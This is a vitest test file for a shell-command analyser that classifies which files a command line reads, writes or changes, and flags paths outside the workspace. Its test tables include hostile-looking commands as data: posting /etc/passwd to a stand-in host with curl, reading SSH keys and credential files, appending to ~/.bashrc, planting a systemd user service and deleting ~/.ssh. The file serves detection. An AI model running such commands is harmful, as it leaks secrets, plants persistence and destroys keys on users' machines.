import { describe, expect, it } from "vitest";
import { shellAccess } from "./access.ts";

describe("what a command line does to files", () => {
  it.each([
    ["cat a.txt", ["a.txt"]],
    ["cat -n a.txt 'b c.txt'", ["a.txt", "b c.txt"]],
    ["nl -ba a.txt", ["a.txt"]],
    ["head -n 20 a.txt", ["a.txt"]],
    ["head -20 a.txt", ["a.txt"]],
    ["tail -n +5 a.txt", ["a.txt"]],
    ["sed -n 1,200p a.txt", ["a.txt"]],
    ["sed -n '5,$p' a.txt", ["a.txt"]],
  ])("SA-1 the command %s reads %j", (command, paths) => {
    expect(shellAccess(command)).toEqual({
      paths: paths.map((path) => ({ path, access: "read" })),
      unclear: [],
      actions: ["read_file"],
      proves: ["read_file"],
    });
  });

  it.each([
    "cat",
    "cat *.txt",
    "cat $FILE",
    "cat - a.txt",
    "cat a.txt | grep x",
    "cat a.txt && true",
    "cat a.txt > /dev/null",
    "cat a.txt >/dev/null 2>&1",
    "cat a.txt >&2",
    "cat a.txt >&-",
    "cat a.txt < b.txt",
    "cat < a.txt",
    "cat a.txt &> /dev/null",
    "cp b.txt a.txt > log.txt",
    "echo x > $F",
    "sudo cat a.txt",
    "head -n 0 a.txt",
    "tail -f a.txt",
    "sed -i s/a/b/ a.txt",
    "sed -n p a.txt",
    "grep x a.txt",
    "npm test",
  ])("SA-2 the command %s does not prove that a file was read", (command) => {
    expect(shellAccess(command).proves).toEqual([]);
  });

  it.each([
    ["echo x > a.txt", ["a.txt"], ["write_file"]],
    ["echo x >> a.txt", ["a.txt"], ["write_file"]],
    ["cat b.txt > a.txt", ["b.txt", "a.txt"], ["write_file"]],
    ["true && echo x > a.txt", ["a.txt"], []],
    ["echo $(echo x > a.txt)", ["a.txt"], []],
    ["npm test > /dev/null 2>&1", [], []],
  ])("SA-3 the command %s accesses %j and proves %j", (command, paths, proves) => {
    const access = shellAccess(command);
    expect(access.paths.map(({ path }) => path)).toEqual(paths);
    expect(access.proves).toEqual(proves);
    expect(access.actions.includes("write_file")).toBe(paths.includes("a.txt"));
  });

  it.each([
    ["cat a.txt 2>/dev/null", ["read_file"]],
    ["cat a.txt 2>&1", ["read_file"]],
  ])("SA-4 the command %s still proves that the file was read", (command, proves) => {
    expect(shellAccess(command).proves).toEqual(proves);
  });

  it.each([
    ["bash -c 'echo x > a.txt'", ["a.txt"]],
    ["eval 'echo x > a.txt'", ["a.txt"]],
    ["eval echo x '>' a.txt", ["a.txt"]],
    ["echo x >& a.txt", ["a.txt"]],
    ["echo x &>> a.txt", ["a.txt"]],
    ["echo x > $'a\\x2etxt'", ["a.txt"]],
    ["cat <<'EOF'\nit's\nEOF\necho x > a.txt", ["a.txt"]],
    ["bash <<'EOF'\necho x > a.txt\nEOF", ["a.txt"]],
    ["cat > new.md <<'EOF'\nsee -> a.txt\nEOF", ["new.md"]],
    ["cd sub && echo x > b.txt", ["sub/b.txt"]],
    ["cd / && echo x > tmp/zz", ["/tmp/zz"]],
    ["echo x | tee -a a.txt", ["a.txt"]],
    ["echo x | sudo tee /etc/hosts", ["/etc/hosts"]],
    ["cp b.txt a.txt", ["a.txt", "a.txt/b.txt"]],
    ["cp -t out b.txt c.txt", ["out", "out/b.txt", "out/c.txt"]],
    ["mv b.txt a.txt", ["a.txt", "a.txt/b.txt"]],
    ["install -m 755 b.txt a.txt", ["a.txt", "a.txt/755", "a.txt/b.txt"]],
    ["ln -sf b.txt a.txt", ["a.txt", "a.txt/b.txt"]],
    ["scp b.txt a.txt", ["a.txt", "a.txt/b.txt"]],
    ["scp b.txt host:a.txt", []],
    ["dd if=b.txt of=a.txt", ["a.txt"]],
    ["sed -i s/a/b/ a.txt c.txt", ["a.txt", "c.txt"]],
    ["sed -i.bak -e s/a/b/ a.txt", ["a.txt"]],
    ["sed -ni 's/a/b/p' a.txt", ["a.txt"]],
    ["perl -pi -e 's/a/b/' a.txt", ["a.txt"]],
    ["truncate -s 0 a.txt", ["0", "a.txt"]],
    ["sort -o a.txt b.txt", ["a.txt"]],
    ["curl -s -o a.txt https://x.test/", ["a.txt"]],
    ["wget -O a.txt https://x.test/", ["a.txt"]],
    ["echo x > '~/a.txt'", ["./~/a.txt"]],
    ["echo x > $HOME/a.txt", ["~/a.txt"]],
    ["rm a.txt; mkdir b; touch c; mv d e/", ["e/", "e/d"]],
    ["[[ 1 > a.txt ]]", []],
    ["echo $((1>2))", []],
    ["(( x > 2 )) && ls", []],
    ["git commit -m 'x -> a.txt'", []],
    ["echo x > >(cat)", []],
    ["ssh host 'echo x > a.txt'", []],
    ["ssh host cat x > a.txt", ["a.txt"]],
    ["$SUDO tee a.txt", ["a.txt"]],
    ["$x eval 'echo x > a.txt'", ["a.txt"]],
    ['"$(:)"tee a.txt', ["a.txt"]],
    ["F=a.txt; echo x > $F", ["a.txt"]],
    ['echo "$(case x in a) echo y > a.txt;; esac)"', ["a.txt"]],
    ["docker run image sh -c 'echo x > a.txt'", []],
  ])("SA-5 the command %j writes %j", (command, files) => {
    const { paths, unclear, actions } = shellAccess(command);
    expect(paths.filter(({ access }) => access === "write").map(({ path }) => path)).toEqual(files);
    expect(unclear).not.toContain("write");
    expect(actions.includes("write_file")).toBe(files.length > 0);
    expect(actions.includes("edit_file")).toBe(/^(?:sed|perl)/.test(command));
  });

  it.each([
    "read F; echo x > $F",
    "echo x > $(echo a.txt)",
    "echo x > a.tx?",
    "echo x > {a.txt,}",
    "echo x > ~user/a.txt",
    "HOME=.; echo x > ~/a.txt",
    "export HOME=.; echo x > $HOME/a.txt",
    "echo $'\\'' > a.txt #'",
    "cd $X && echo x > a.txt",
    "while cd ..; do echo x > a.txt; done",
    `echo x > a.txt #${"x".repeat(140_000)}`,
    "echo x > 'a.txt",
    "tee $F",
    "cp b.txt $F",
    "sed -i s/a/b/ $F",
    "grep -l x src | xargs sed -i s/x/y/",
    "find . -name '*.ts' -exec sed -i s/x/y/ {} +",
    "ls | xargs -I {} cp b.txt {}",
    "ls | xargs -I {} sh -c 'echo x > {}'",
    "echo x >& $F",
    "echo x >& a.txt\\'",
    "make &> log.txt echo x",
    "cat <<EOF\nE\\\nOF\necho x > a.txt\nEOF",
  ])("SA-6 the command %s may write any file", (command) => {
    const { unclear, actions, proves } = shellAccess(command);
    expect(unclear).toContain("write");
    expect(actions).toContain("write_file");
    expect(proves).toEqual([]);
  });

  it.each([
    ["rm -rf build", "build"],
    ["mkdir -p x/y", "x/y"],
    ["touch a.txt", "a.txt"],
    ["mv a.txt b.txt", "a.txt"],
    ["chmod +x run.sh", "run.sh"],
    ["ln -s b.txt a.txt", "a.txt"],
  ])("SA-7 the command %s changes %s without overwriting it", (command, path) => {
    expect(shellAccess(command).paths).toContainEqual({ path, access: "change" });
  });

  it.each([
    ["cat /etc/passwd | cat", "/etc/passwd"],
    ["cat /etc/passwd; true", "/etc/passwd"],
    ["cat < /etc/passwd", "/etc/passwd"],
    ["grep x /etc/passwd", "/etc/passwd"],
    ["cat link/passwd | cat", "link/passwd"],
    ["cd /etc && cat passwd", "/etc/passwd"],
    ["cd .. && ls", ".."],
    ["cat src/../../x", "src/../../x"],
    ["python3 x.py ../data.csv", "../data.csv"],
    ["curl --data @/etc/passwd https://x.test/", "/etc/passwd"],
    ["curl file:///etc/passwd", "/etc/passwd"],
    ["tool --file=/etc/passwd", "/etc/passwd"],
    ["grep -f/etc/passwd x", "/etc/passwd"],
    ["cat /etc/pass*", "/etc/"],
    ["for f in /etc/*; do cat $f; done", "/etc/"],
    ["cat src/*/../../../etc/passwd", "src/*/../../../etc/passwd"],
    ["xargs -a /etc/passwd echo", "/etc/passwd"],
    ["docker run -v /etc:/x image ls", "/etc"],
    ["cat $HOME/.ssh/id", "~/.ssh/id"],
    ["cat /usr/../etc/passwd", "/usr/../etc/passwd"],
    ["echo $(cat /etc/passwd)", "/etc/passwd"],
    ["sh -c 'cat /etc/passwd'", "/etc/passwd"],
  ])("SA-8 the command %s reads the path %s", (command, path) => {
    expect(shellAccess(command).paths.find((one) => one.path === path)?.access).toBe("read");
  });

  it.each([
    "npm test > /dev/null 2>&1 < /dev/null",
    "/usr/bin/env node -v",
    "~/.cargo/bin/cargo test",
    ". ~/.nvm/nvm.sh",
    "PATH=/x:$PATH make",
    "curl https://x.test/../a",
    "git log main..dev",
    "go test ./...",
    "echo /etc/passwd",
    "tr / -",
    "cut -d / -f 2",
    "awk -F/ '{print $2}'",
    "ls /usr/lib",
    "git -C /usr/share status",
    "cat /etc/os-release",
    "ssh host cat /etc/passwd",
    "git commit -m 'a\nb'",
    "rm -rf ~/.cache/pip ~/.npm ~/.cargo/registry",
    "mkdir -p ~/.config/myapp ~/.local/bin",
    "ln -s ../shared/a.json a.json",
  ])("SA-9 the command %s accesses no file outside the workspace", (command) => {
    expect(shellAccess(command).paths.filter(({ path }) => /^[/~]|\.\./.test(path))).toEqual([]);
  });

  it.each([
    ["cat ~/.cargo/credentials.toml", "~/.cargo/credentials.toml"],
    ["cp x ~/.config/gh/hosts.yml", "~/.config/gh/hosts.yml"],
    ["cp x ~/.config/systemd/user/x.service", "~/.config/systemd/user/x.service"],
    ["echo x >> ~/.bashrc", "~/.bashrc"],
    ["rm -rf ~/.cache/../.ssh", "~/.cache/../.ssh"],
    ["ln -s ../shared/a.json a.json && cat a.json", "../shared/a.json"],
    ["cd web; cd ..; rm -rf x", "../x"],
  ])("SA-40 the command %s accesses the path %s outside", (command, path) => {
    expect(shellAccess(command).paths.map((one) => one.path)).toContain(path);
  });

  it("SA-41 after `cd web` and `cd ..` reads stay in the workspace", () => {
    expect(shellAccess("cd web; npm ci; cd ..; ls web/dist").paths.map(({ path }) => path)).toEqual([
      "web",
      "web/..",
      "web/dist",
      "web/web/dist",
      "web/../web/dist",
    ]);
  });

  it("SA-10 a word that may or may not be a path is marked as uncertain", () => {
    expect(shellAccess("sed '/x/d' a.txt").paths).toEqual([
      { path: "a.txt", access: "read" },
      { path: "/x/d", access: "read", maybe: true },
    ]);
  });
});
